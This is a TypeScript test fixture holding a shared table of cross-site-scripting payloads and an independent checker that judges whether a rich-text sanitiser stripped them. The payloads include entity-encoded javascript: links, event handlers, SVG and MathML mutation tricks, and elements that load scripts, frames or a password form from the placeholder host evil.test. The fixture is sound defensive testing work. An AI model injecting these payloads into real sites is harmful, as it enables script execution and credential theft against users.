/**
 * The shared table of hostile rich text (issue 16.7), run against both places the allow-list is
 * applied: saving through the API (tests/api/rich-text-sanitising.test.ts) and rendering what is
 * stored on the public pages (tests/web/rich-text-sanitising.test.ts), so neither can drift from
 * the other. `unsafeMarkup` judges the result by a list of its own, written independently of
 * contract/rich-text-policy: widening the policy to let one of these through fails the tests.
 */

export interface XssVector {
  name: string;
  html: string;
}

/** A host every hostile address names, so that none of it may be left in any attribute. */
export const EVIL = 'evil.test';

export const XSS_VECTORS: readonly XssVector[] = [
  // Scripts in all their forms.
  { name: 'script element', html: '<script>alert(1)</script>' },
  { name: 'script element with a source, upper case', html: `<SCRIPT SRC="https://${EVIL}/x.js"></SCRIPT>` },
  { name: 'script split by a nested script', html: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'script in a conditional comment', html: '<!--[if IE]><script>alert(1)</script><![endif]-->' },
  { name: 'script in a template', html: '<template><script>alert(1)</script></template>' },
  { name: 'script after a closing noscript inside an attribute', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>' },
  // Event handlers.
  { name: 'onerror on an image', html: '<img src="x" onerror="alert(1)">' },
  { name: 'onclick on a paragraph', html: '<p onclick="alert(1)">Click</p>' },
  { name: 'onmouseover on a link, mixed case', html: '<a href="https://example.com" OnMouseOver="alert(1)">Hover</a>' },
  { name: 'onload on body', html: '<body onload="alert(1)"><p>Body</p></body>' },
  { name: 'onfocus with autofocus', html: '<p tabindex="0" autofocus onfocus="alert(1)">Focus</p>' },
  { name: 'handler without quotes after a slash', html: '<img/src="x"/onerror=alert(1)>' },
  // javascript:, data:, vbscript: addresses, in many spellings.
  { name: 'javascript: link', html: '<a href="javascript:alert(1)">x</a>' },
  { name: 'javascript: link, mixed case', html: '<a href="JaVaScRiPt:alert(1)">x</a>' },
  { name: 'javascript: link after spaces', html: '<a href="  javascript:alert(1)">x</a>' },
  { name: 'javascript: link with a tab entity', html: '<a href="java&#x09;script:alert(1)">x</a>' },
  { name: 'javascript: link with a raw tab and newline', html: '<a href="java\tscr\nipt:alert(1)">x</a>' },
  { name: 'javascript: link as decimal entities', html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>' },
  { name: 'javascript: link as padded entities without semicolons', html: '<a href="&#0000106&#0000097vascript:alert(1)">x</a>' },
  { name: 'javascript: link with an encoded colon', html: '<a href="javascript&colon;alert(1)">x</a>' },
  { name: 'javascript: link with a hex-encoded letter', html: '<a href="&#x6A;avascript:alert(1)">x</a>' },
  { name: 'javascript: link after a control character', html: '<a href="\u0001javascript:alert(1)">x</a>' },
  { name: 'javascript: image', html: '<img src="javascript:alert(1)">' },
  { name: 'data: link with HTML', html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>' },
  { name: 'data: link, upper case', html: '<a href="DATA:text/html,<script>alert(1)</script>">x</a>' },
  { name: 'data: link with an entity', html: '<a href="d&#97;ta:text/html,alert(1)">x</a>' },
  { name: 'data: image', html: '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="pixel">' },
  { name: 'data: SVG image', html: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="svg">' },
  { name: 'vbscript: link', html: '<a href="vbscript:msgbox(1)">x</a>' },
  { name: 'vbscript: link, mixed case', html: '<a href="VbScRiPt:msgbox(1)">x</a>' },
  // SVG and MathML.
  { name: 'svg with onload', html: '<svg onload="alert(1)"><circle r="1"/></svg>' },
  { name: 'script inside svg', html: '<svg><script>alert(1)</script></svg>' },
  { name: 'svg link with xlink:href', html: '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>' },
  { name: 'svg animate setting an href', html: '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>' },
  { name: 'math link', html: '<math href="javascript:alert(1)"><mi>x</mi></math>' },
  { name: 'math mglyph mutation', html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>' },
  // Styles.
  { name: 'style element', html: `<style>body { background: url(https://${EVIL}/x.png) }</style><p>Styled</p>` },
  { name: 'style attribute with expression()', html: '<p style="width: expression(alert(1))">x</p>' },
  { name: 'style attribute with url()', html: `<p style="background-image: url(https://${EVIL}/p.gif)">x</p>` },
  { name: 'style attribute with javascript: url()', html: '<p style="text-align: left; background: url(javascript:alert(1))">x</p>' },
  { name: 'style attribute hiding behaviour', html: '<td style="behavior: url(x.htc); text-align: center">x</td>' },
  // Embedded documents and plugins.
  { name: 'iframe', html: `<iframe src="https://${EVIL}/"></iframe>` },
  { name: 'iframe with srcdoc', html: '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>' },
  { name: 'object', html: `<object data="https://${EVIL}/x.swf"></object>` },
  { name: 'embed', html: `<embed src="https://${EVIL}/x.swf">` },
  { name: 'frameset', html: `<frameset><frame src="https://${EVIL}/"></frameset>` },
  // Forms.
  { name: 'form with an action', html: `<form action="https://${EVIL}/"><input name="password"></form>` },
  { name: 'button formaction', html: '<button formaction="javascript:alert(1)">Go</button>' },
  { name: 'input formaction', html: '<input type="image" src="x" formaction="javascript:alert(1)">' },
  // Head elements.
  { name: 'meta refresh', html: `<meta http-equiv="refresh" content="0;url=https://${EVIL}/">` },
  { name: 'base', html: `<base href="https://${EVIL}/">` },
  { name: 'stylesheet link', html: `<link rel="stylesheet" href="https://${EVIL}/x.css">` },
  // Links and images the policy restricts.
  { name: 'link to a new tab without rel', html: '<a href="https://example.com" target="_blank">New tab</a>' },
  { name: 'link to a new tab with rel=opener', html: '<a href="https://example.com" target="_blank" rel="opener">New tab</a>' },
  { name: 'link naming another target', html: '<a href="https://example.com" target="_top">Top</a>' },
  { name: 'link with ping', html: `<a href="https://example.com" ping="https://${EVIL}/">Ping</a>` },
  { name: 'protocol-relative image', html: `<img src="//${EVIL}/p.gif" alt="pixel">` },
  { name: 'remote image (tracking pixel)', html: `<img src="https://${EVIL}/p.gif" alt="pixel">` },
  { name: 'image with a foreign srcset', html: `<img src="/api/upload/2026/11/0123456789abcdef0123.webp" srcset="https://${EVIL}/p.gif 1x" alt="x">` },
  { name: 'image with user info', html: `<img src="https://www.example-law.test@${EVIL}/api/upload/x.webp" alt="x">` },
];

/** Harmless tags, as this test sees them (not imported from the policy on purpose). */
const HARMLESS_TAGS = new Set(
  'p br hr h1 h2 h3 h4 h5 h6 strong b em i u s del sub sup mark code pre blockquote ul ol li a img figure figcaption table thead tbody tfoot tr th td colgroup col span'.split(' '),
);
/** Harmless attributes; `style` is judged by its properties, addresses by their schemes. */
const HARMLESS_ATTRIBUTES = new Set('href title target rel src alt width height colspan rowspan style span start srcset sizes loading decoding tabindex'.split(' '));
const HARMLESS_STYLE = /^\s*(?:(?:text-align\s*:\s*(?:left|right|center|justify)|width\s*:\s*\d+(?:px|%))\s*;?\s*)*$/i;
/** A link with a scheme must use one of these; one without is relative to the page. */
const LINK_SCHEME = /^(?:https?|mailto|tel)$/i;
const IMAGE = /^(?:\/api\/upload\/|https:\/\/[^/\s])/i;

/** HTML character references decoded, as a browser reads an attribute value. */
function decodeEntities(value: string): string {
  const named: Record<string, string> = { colon: ':', tab: '\t', newline: '\n', quot: '"', apos: "'", lt: '<', gt: '>', amp: '&' };
  return value.replace(/&(?:#x([0-9a-f]+);?|#(\d+);?|([a-z]+);)/gi, (whole, hex?: string, dec?: string, name?: string) =>
    hex ? String.fromCodePoint(parseInt(hex, 16)) : dec ? String.fromCodePoint(Number(dec)) : (named[name!.toLowerCase()] ?? whole),
  );
}

/**
 * What is unsafe in some sanitised HTML: a tag or attribute outside the harmless ones, an event
 * handler, an address with a scheme other than http(s), mailto and tel (images: only the site's
 * uploads and https), a style beyond text alignment and column width, a new tab without
 * `noopener`, or any mention of the hostile host in markup. Empty when it is all harmless.
 */
export function unsafeMarkup(html: string): string[] {
  const problems: string[] = [];
  for (const tag of html.matchAll(/<\s*([a-z][^\s/>]*)([^>]*)>/gi)) {
    const name = tag[1]!.toLowerCase();
    if (!HARMLESS_TAGS.has(name)) problems.push(`tag <${name}>`);
    const attributes = new Map<string, string>();
    for (const attribute of tag[2]!.matchAll(/([^\s"'=/>]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+)))?/g)) {
      attributes.set(attribute[1]!.toLowerCase(), decodeEntities(attribute[2] ?? attribute[3] ?? attribute[4] ?? ''));
    }
    for (const [attribute, value] of attributes) {
      if (!HARMLESS_ATTRIBUTES.has(attribute)) problems.push(`attribute ${attribute} on <${name}>`);
      if (value.toLowerCase().includes(EVIL)) problems.push(`${attribute}="${value}" on <${name}> names ${EVIL}`);
      // A browser drops these before it reads a scheme.
      // eslint-disable-next-line no-control-regex
      const address = value.replace(/[\u0000-\u0020]/g, '');
      const scheme = /^([^/?#]*?):/.exec(address)?.[1];
      if (attribute === 'href' && scheme !== undefined && !LINK_SCHEME.test(scheme)) problems.push(`href="${value}"`);
      if (attribute === 'src' && !IMAGE.test(address)) problems.push(`src="${value}"`);
      if (attribute === 'srcset' && !value.split(',').every((candidate) => IMAGE.test(candidate.trim()))) problems.push(`srcset="${value}"`);
      if (attribute === 'style' && !HARMLESS_STYLE.test(value)) problems.push(`style="${value}"`);
    }
    if (attributes.get('target') === '_blank' && !/\bnoopener\b/.test(attributes.get('rel') ?? '')) problems.push('target=_blank without rel=noopener');
    if (attributes.has('target') && attributes.get('target') !== '_blank') problems.push(`target="${attributes.get('target')}"`);
  }
  return problems;
}
